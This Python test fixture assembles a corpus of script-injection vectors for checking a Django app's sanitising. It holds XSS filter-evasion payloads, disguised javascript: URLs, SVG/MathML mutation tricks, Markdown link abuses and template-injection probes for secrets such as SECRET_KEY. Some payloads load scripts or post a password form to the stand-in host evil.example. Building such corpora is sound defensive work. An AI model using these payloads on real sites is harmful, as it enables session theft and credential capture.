"""A corpus of script-injection vectors, built in code (nothing downloaded).

Families: classic filter-evasion vectors (after the OWASP cheat sheet),
`javascript:` URLs split by entities, whitespace and control characters,
SVG and MathML, Markdown link and image tricks, attribute and JSON/script
breakouts, and Django template syntax that must come out literally.

`VECTORS` is a list of (id, payload); ids are short and stable so a failing
test names its vector. `SAMPLE` is a fixed, representative subset (every
family) for the fields and pages where running the whole corpus would only
repeat the same code path.
"""

_JS = "javascript:alert(1)"

CLASSIC = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\x20type=text/javascript>alert(1)</script>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "<script>alert(1)<!--",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x" oNeRrOr="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img srcset="javascript:alert(1) 1x">',
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div onmouseover="alert(1)">hover</div>',
    '<p onclick="alert(1)">x</p>',
    '<a href="#" onmouseover="alert(1)">x</a>',
    "<a onfocus=alert(1) autofocus href=#>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=//evil.example></iframe>",
    "<frameset onload=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<embed src="javascript:alert(1)">',
    "<applet code=x.class></applet>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel=import href="https://evil.example/x.html">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<form action="https://evil.example"><input name=password></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<isindex action="javascript:alert(1)" type=submit>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td background="javascript:alert(1)">x</td>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    '<x onclick="alert(1)">custom element</x>',
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<html onmouseenter=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "`-alert(1)-`",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "<script>alert(document.cookie)</script>\u2028",
    '<a href="https://example.com" target=_blank>tabnabbing</a>',
]

# One `javascript:` URL, disguised every way browsers still accept.
JS_URLS = [
    _JS,
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java\x00script:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://%0Aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
]

SVG_MATHML = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhbGVydCgxKScvPg==#x>",
    '<svg><image href="javascript:alert(1)"/></svg>',
    "<svg><title><![CDATA[</title><script>alert(1)</script>]]></title></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<math href="javascript:alert(1)">click</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title=\"</textarea><img src='#' onerror='alert(1)'>\">",  # noqa: E501
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
]

MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](javas\tcript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![img](javascript:alert(1))",
    '![img](x "title" onerror="alert(1)")',
    '![img](x"onerror="alert(1))',
    '[a](https://example.com" onmouseover="alert(1))',
    "[a](https://example.com'onmouseover='alert(1))",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    '[ref][x]\n\n[x]: https://example.com "a" onmouseover="alert(1)',
    "<javascript:alert(1)>",
    '<https://example.com/"onmouseover="alert(1)>',
    "[![img](x)](javascript:alert(1))",
    "[x](#)<img src=x onerror=alert(1)>",
    "**<script>alert(1)</script>**",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
    "1. <details open ontoggle=alert(1)>",
    "| a | b |\n| - | - |\n| <img src=x onerror=alert(1)> | x |",
    "# Heading {: onclick=alert(1) }",
    '<a href="https://example.com">ok</a><a href="javascript:alert(1)">bad</a>',
    "[x](https://evil.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E)",
    "<div markdown=1>[x](javascript:alert(1))</div>",
    "[x](java&#x73;cript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<h1 id=main onclick=alert(1)>clobber</h1>",
    '<img name=getElementById src=x><form id=csrf action="https://evil.example">',
]

TEMPLATE = [
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{{ request.META }}",
    "{% load log %}{% get_admin_log 10 as log %}{{ log }}",
    "{{ csrf_token }}",
    '{% include "base.html" %}',
    "{% now 'Y' %}",
    "{{ 7|add:7 }}",
    "{% templatetag openblock %} x {% templatetag closeblock %}",
    "{{ user.password }}",
    "{% for x in 'abc' %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> {{7*7}}",
    "{% verbatim %}</div><script>alert(1)</script>{% endverbatim %}",
    "{{ messages }}{% csrf_token %}",
]

_FAMILIES = [
    ("classic", CLASSIC),
    ("svg", SVG_MATHML),
    ("md", MARKDOWN),
    ("tpl", TEMPLATE),
]


def _build():
    vectors = []
    for family, payloads in _FAMILIES:
        vectors += [(f"{family}-{n:02d}", payload) for n, payload in enumerate(payloads)]
    # Each disguised URL in the places a URL can hide: a raw link, a Markdown
    # link, an image, and an attribute breakout.
    for n, url in enumerate(JS_URLS):
        vectors.append((f"url-a-{n:02d}", f'<a href="{url}">x</a>'))
        vectors.append((f"url-md-{n:02d}", f"[x]({url})"))
    for n, url in enumerate(JS_URLS[:12]):
        vectors.append((f"url-img-{n:02d}", f"![x]({url})"))
        vectors.append((f"url-bare-{n:02d}", url))
    return vectors


VECTORS = _build()
PAYLOADS = [payload for _id, payload in VECTORS]
IDS = [vector_id for vector_id, _payload in VECTORS]

# Every family, a fixed pick: for the fields and pages that share one code path.
SAMPLE = [
    vector
    for vector in VECTORS
    if vector[0]
    in {
        "classic-00",
        "classic-05",
        "classic-10",
        "classic-13",
        "classic-16",
        "classic-22",
        "classic-38",
        "classic-42",
        "classic-52",
        "classic-57",
        "classic-70",
        "classic-71",
        "classic-72",
        "classic-76",
        "classic-77",
        "svg-00",
        "svg-06",
        "svg-12",
        "svg-17",
        "md-00",
        "md-09",
        "md-11",
        "md-13",
        "tpl-00",
        "tpl-01",
        "tpl-04",
        "tpl-12",
        "url-a-08",
        "url-md-11",
        "url-bare-00",
    }
]
